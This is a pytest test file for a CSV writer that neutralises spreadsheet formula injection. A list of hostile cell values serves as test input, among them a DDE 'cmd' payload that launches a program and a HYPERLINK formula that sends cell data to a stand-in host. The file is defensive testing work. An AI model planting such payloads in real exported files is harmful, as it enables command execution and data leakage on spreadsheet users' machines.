"""CSV files that no spreadsheet runs, and that keep what they hold."""

import csv
import itertools

import numpy as np
import pandas as pd
import pytest

from gandl_jax import csv_files

HARMFUL = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"Taxol")',
    "=cmd|' /C calc'!A0",
    "+44",
    "+SUM(A1)",
    "-OH",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "@",
    "-",
    "--1",
    "+-1",
    "-1.5.2",
    "\t=1",
    "\tplain",
    "\r=1",
    "\rplain",
    "\n=1",
    " =1",
    "   -x",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "'=1",
    "''=1",
    '"=1',
    ' "=1',
    "\uff1d1",
    "\uff0b1",
    "\uff0dx",
    "\uff20x",
]
HARMFUL.remove("+44")  # a number
HARMLESS = ["", "Taxol", "3-OH", "a=b", "x@y", "'quoted'", "'", "1-2", "a; b", "x\ny"]
NUMBERS = ["-1", "+1.5", "-.5", "+1e-5", "-2E+10", "-3.", "1e3", "0"]


def cells(path):
    """What a spreadsheet finds in a file, by the csv module of Python."""
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("cell", HARMFUL)
def test_no_cell_and_no_heading_is_run(tmp_path, cell):
    csv_files.write(tmp_path / "t.csv", pd.DataFrame({cell: [cell], "n": [-1.5]}))
    heading, row = cells(tmp_path / "t.csv")
    assert heading[1:] == ["n"] and row[1:] == ["-1.5"]
    for found in (heading[0], row[0]):
        assert found[0] == "'" and found.replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", [*HARMLESS, *NUMBERS])
def test_harmless_text_is_as_it_was(tmp_path, cell):
    csv_files.write(tmp_path / "t.csv", pd.DataFrame({"a": [cell, "x"]}))
    assert cells(tmp_path / "t.csv") == [["a"], [cell], ["x"]]


@pytest.mark.parametrize("apart", [";", "\t", "\n", "\r", ";  ", ";\t"])
@pytest.mark.parametrize("sign", "=+-@")
def test_where_some_spreadsheets_divide_a_cell_none_begins_so(tmp_path, apart, sign):
    csv_files.write(tmp_path / "t.csv", pd.DataFrame({"a": [f"x{apart}{sign}y"]}))
    (_, (found,)) = cells(tmp_path / "t.csv")
    assert found.replace("'", "") == f"x{apart}{sign}y"
    for part in found.replace("\t", ";").replace("\n", ";").splitlines():
        assert not any(p.strip().startswith(sign) for p in part.split(";"))


def test_numbers_are_written_as_pandas_does(tmp_path):
    table = pd.DataFrame(
        {
            "float": [-1.5, np.nan, -np.inf, 1e-300, -0.0],
            "whole": [-3, 0, 2**53, -(2**40), 1],
            "lacking": pd.array([-1, None, 3, None, 5], "Int64"),
            "flag": [True, False, True, False, True],
            "mixed": pd.Series([-1, -2.5, "x", None, True], dtype=object),
            "kind": pd.Categorical(["a", "b", None, "a", "b"]),
        }
    )
    csv_files.write(tmp_path / "t.csv", table)
    assert (tmp_path / "t.csv").read_text() == table.to_csv(index=False)


@pytest.mark.parametrize("table", [pd.DataFrame(columns=["a", "=b"]), pd.DataFrame()])
def test_tables_without_rows(tmp_path, table):
    csv_files.write(tmp_path / "t.csv", table)
    wanted = table.rename(columns={"=b": "'=b"}).to_csv(index=False)
    assert (tmp_path / "t.csv").read_text() == wanted


def test_categories_and_text_of_every_kind_are_marked(tmp_path):
    for dtype in (object, "str", "category"):
        table = pd.DataFrame({"a": pd.Series(["=1", "-1", None], dtype=dtype)})
        csv_files.write(tmp_path / "t.csv", table)
        assert cells(tmp_path / "t.csv")[1:] == [["'=1"], ["-1"], [""]]


def test_what_is_read_back_is_what_was_written(tmp_path):
    """All texts of up to four of the characters that matter."""
    texts = [
        "".join(some)
        for n in range(5)
        for some in itertools.product("=-'1; \t\r", repeat=n)
    ]
    table = pd.DataFrame({"a": texts, "'=b": "x"})
    csv_files.write(tmp_path / "t.csv", table)
    found = csv_files.read(tmp_path / "t.csv")
    assert found.columns.tolist() == ["a", "'=b"]
    assert found["a"].tolist() == texts


def test_a_reader_of_others_finds_the_rows_and_columns(tmp_path):
    table = pd.DataFrame({"name": HARMFUL, "x": range(len(HARMFUL))})
    csv_files.write(tmp_path / "t.csv", table)
    found = pd.read_csv(tmp_path / "t.csv")
    assert found["x"].tolist() == table["x"].tolist()
